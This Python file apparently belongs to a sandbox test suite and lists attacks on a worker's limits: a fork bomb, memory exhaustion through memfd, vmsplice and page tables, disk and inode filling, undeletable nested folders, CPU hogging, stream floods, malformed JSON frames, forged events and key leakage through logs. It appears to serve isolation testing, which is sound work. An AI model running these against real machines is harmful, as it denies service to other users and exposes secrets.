"""Attempts on the machine's resources: to take so much that nothing is left for the others."""

import ctypes
import json
import os
import subprocess
import sys
import threading
import time
from pathlib import Path

MIB = 1024 * 1024


def memory(bait):
    """all memory"""
    held = []
    while True:
        held.append(bytearray(os.urandom(1)) * (8 * MIB))


def memory_of_many(bait):
    """all memory, by many processes that each stay below the limit"""
    for _ in range(6):
        if os.fork() == 0:
            held = bytearray(b"x") * (bait["memory"] // 3)
            time.sleep(60)
            os._exit(len(held) == 0)
    time.sleep(60)
    return "allowed"


def memory_without_owner(bait):
    """all memory, in files that have no name and count for nobody"""
    held = []
    for _ in range(2 * bait["memory"] // (8 * MIB)):
        descriptor = os.memfd_create("x")
        os.write(descriptor, b"x" * (8 * MIB))
        held.append(descriptor)
    time.sleep(60)
    return "allowed"


def memory_shared_with_nobody(bait):
    """all memory, in shared mappings that are let go of as soon as they are filled"""
    import mmap

    held = []
    for _ in range(2 * bait["memory"] // (8 * MIB)):
        shared = mmap.mmap(-1, 8 * MIB)
        shared.write(b"x" * (8 * MIB))
        shared.madvise(mmap.MADV_DONTNEED)
        held.append(shared)
    time.sleep(60)
    return "allowed"


def memory_of_zeroes(bait):
    """the same, by the device of zeroes"""
    import mmap

    held = []
    for way in (os.O_RDWR, os.O_RDONLY):
        try:
            zero = os.open("/dev/zero", way)
            for _ in range(2 * bait["memory"] // (8 * MIB)):
                right = mmap.PROT_READ | (mmap.PROT_WRITE if way == os.O_RDWR else 0)
                shared = mmap.mmap(zero, 8 * MIB, mmap.MAP_SHARED, right)
                sum(shared[place] for place in range(0, 8 * MIB, 4096))
                shared.madvise(mmap.MADV_DONTNEED)
                held.append(shared)
        except (OSError, ValueError):
            continue
        time.sleep(60)
        return "allowed"
    return None


def memory_in_pipes(bait):
    """all memory, in pages that a pipe refers to and no process has"""
    import mmap

    libc = ctypes.CDLL(None, use_errno=True)
    held = []
    for _ in range(40):
        pages = mmap.mmap(-1, 8 * MIB, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
        pages.write(b"x" * (8 * MIB))
        ends = os.pipe()
        held.append(ends)
        there = ctypes.addressof(ctypes.c_char.from_buffer(pages))
        vector = (ctypes.c_size_t * 2)(there, 65536)
        if libc.vmsplice(ends[1], vector, ctypes.c_size_t(1), 0) < 0:
            return None
    return "allowed"


def memory_of_tables(bait):
    """all memory, in page tables: a page read here and there in an endless empty mapping"""

    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    size = 1 << 40
    place = libc.mmap(None, ctypes.c_size_t(size), 1, 0x4022, -1, ctypes.c_size_t(0))
    if place in (None, ctypes.c_void_p(-1).value):
        return None
    libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(size), 15)
    for offset in range(0, size, 2 * MIB):
        _ = ctypes.c_char.from_address(place + offset).value
    time.sleep(60)
    return "allowed"


def disk_unseen_in_mappings(bait):
    """the whole disk, by files that have neither a name nor a descriptor"""
    import mmap

    held = []
    for number in range(1000):
        with open(Path(bait["out"], str(number)), "w+b") as file:
            os.unlink(file.name)
            file.write(b"x" * (4 * MIB))
            file.flush()
            held.append(mmap.mmap(file.fileno(), 4096))
        os.closerange(3, 128)  # Python keeps a descriptor of its own for a mapping
    time.sleep(60)
    return "allowed"


def memory_behind_an_ended_thread(bait):
    """all memory, in a process whose first thread has ended and which so shows none"""

    def take():
        held = []
        for _ in range(2 * bait["memory"] // (8 * MIB)):
            held.append(bytearray(b"x") * (8 * MIB))
            time.sleep(0.05)
        time.sleep(60)

    threading.Thread(target=take).start()
    ctypes.CDLL(None).syscall(ctypes.c_long(93 if os.uname().machine == "aarch64" else 60), 0)


def memory_of_the_unseen(bait):
    """all memory, in a program that may not be read, and so not be looked at"""
    program = Path(bait["out"], "unseen")
    code = "import time\nh = [bytearray(b'x') * 2**23 for _ in range(40)]\ntime.sleep(60)"
    program.write_bytes(Path(sys.executable).resolve().read_bytes())
    program.chmod(0o111)
    os.execv(program, [sys.executable, "-S", "-c", code])


def unwatched(bait):
    """no limits at all, by an output folder that the watchdog stumbles over"""
    os.chmod(bait["out"], 0)
    held = []
    while True:
        held.append(bytearray(b"x") * MIB)


def unwatched_folder(bait):
    """the whole disk, in a folder that may be filled but not listed"""
    folder = Path(bait["out"], "folder")
    folder.mkdir()
    folder.chmod(0o300)
    for number in range(1000):
        Path(folder, str(number)).write_bytes(b"x" * (4 * MIB))
    return "allowed"


def output_of_holes(bait):
    """the whole disk of whoever copies it, by files that are mostly holes"""
    for number in range(8):
        with open(Path(bait["out"], f"{number}.png"), "wb") as file:
            file.truncate(20 * MIB)
    time.sleep(2)
    return "allowed"


def processes(bait):
    """every process id, by a fork bomb"""
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


def threads(bait):
    """the same, by threads"""
    stop = threading.Event()
    while True:
        threading.Thread(target=stop.wait, daemon=True).start()


def disk(bait):
    """the whole disk, by one file"""
    with open(Path(bait["out"], "big"), "wb") as file:
        while True:
            file.write(b"x" * MIB)


def disk_by_many(bait):
    """the whole disk, by many files below the limit"""
    for number in range(100_000):
        Path(bait["out"], f"{number % 200}-{number}").write_bytes(b"x" * MIB)
    return "allowed"


def disk_unseen(bait):
    """the whole disk, by files that no listing shows"""
    held = []
    for number in range(1000):
        file = open(Path(bait["out"], str(number)), "wb")
        os.unlink(file.name)
        file.write(b"x" * (4 * MIB))
        file.flush()
        held.append(file)
    return "allowed"


def file_names(bait):
    """every inode of the disk"""
    for number in range(1_000_000):
        Path(bait["out"], str(number)).touch()
    return "allowed"


def deep_folders(bait):
    """a folder that nobody can delete"""
    os.chdir(bait["out"])
    for _ in range(100_000):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
    return "allowed"


def temporary_files(bait):
    """all memory or disk, by temporary files"""
    for folder in (os.environ["TMPDIR"], "/dev/shm"):
        try:
            with open(Path(folder, "big"), "wb") as file:
                while True:
                    file.write(b"x" * MIB)
        except OSError as error:
            last = error
    raise last


def descriptors(bait):
    """every file descriptor of the machine"""
    held = []
    while True:
        held.append(os.open("/dev/null", os.O_RDONLY))


def processor(bait):
    """a processor, for ever"""
    while True:
        pass


def processor_of_many(bait):
    """every processor, by processes that each stay below the limit"""
    for _ in range(4):
        if os.fork() == 0:
            while True:
                pass
    while True:
        time.sleep(1)


def locked_memory(bait):
    """memory that can never be swapped out"""
    buffer = ctypes.create_string_buffer(16 * MIB)
    done = ctypes.CDLL(None, use_errno=True).mlock(buffer, 16 * MIB)
    return "locked" if done == 0 else None


def real_time(bait):
    """a processor, before everybody else"""
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    return "granted"


def flood(bait):
    """the worker's memory, by a gigabyte on stdout"""
    for _ in range(1024):
        os.write(1, b"x" * MIB)


def flood_of_events(bait):
    """the stream and the history, by a million events"""
    frame = b'data: {"type":"status","message":"x"}\n\n'
    for _ in range(1000):
        os.write(1, frame * 1000)


def flood_of_provenance(bait):
    """the shoot for ever, by a payload that Temporal does not take"""
    for number in range(40):
        frame = {"type": "artifact", "path": "a.png", "artifactType": "image"}
        frame["provenance"] = {f"how-{number}": "x" * 200_000}
        os.write(1, b"data: " + json.dumps(frame).encode() + b"\n\n")


def endless_talk(bait):
    """the history, by messages of a length that is allowed"""
    frame = b'data: {"type":"status","message":"%s"}\n\n' % (b"x" * 4000)
    for _ in range(1000):
        os.write(1, frame)


def endless_line(bait):
    """the worker's memory, by a frame without an end"""
    os.write(1, b"data: ")
    while True:
        os.write(1, b"x" * MIB)


def flood_of_words(bait):
    """the worker's memory and logs, by a gigabyte on stderr"""
    for _ in range(1024):
        os.write(2, b"x" * MIB)
    raise SystemExit(3)


def broken_text(bait):
    """a worker that stumbles over its own decoder"""
    os.write(1, b'data: {"type":"status","message":"\xff\xfe"}\n\n')


def half_a_frame(bait):
    """a worker that waits for the other half"""
    os.write(1, b'data: {"type":"sta')
    os._exit(0)


def deep_json(bait):
    """the worker's stack"""
    os.write(1, b'data: {"type":"status","message":' + b"[" * 100_000 + b"\n\n")


def forged_event(bait):
    """an egress refusal or an artifact that never was, told by the script"""
    frame = {"type": "egress_refused", "target": "x", "reason": "forged"}
    os.write(1, b"data: " + json.dumps(frame).encode() + b"\n\n")


def loose_tongue(bait):
    """a key of its own in an event, and so in every log and on every page"""
    key = os.environ[bait["own"]]
    import base64
    import urllib.parse

    for text in (key, base64.b64encode(f"x{key}".encode()).decode(), urllib.parse.quote(key)):
        frame = {
            "type": "status",
            "message": f"key {text}",
        }
        os.write(1, b"data: " + json.dumps(frame).encode() + b"\n\n")
    child = "import os,sys; sys.stderr.write('key ' + os.environ[sys.argv[1]])"
    subprocess.run([sys.executable, "-S", "-c", child, bait["own"]], check=True)
    raise SystemExit(4)
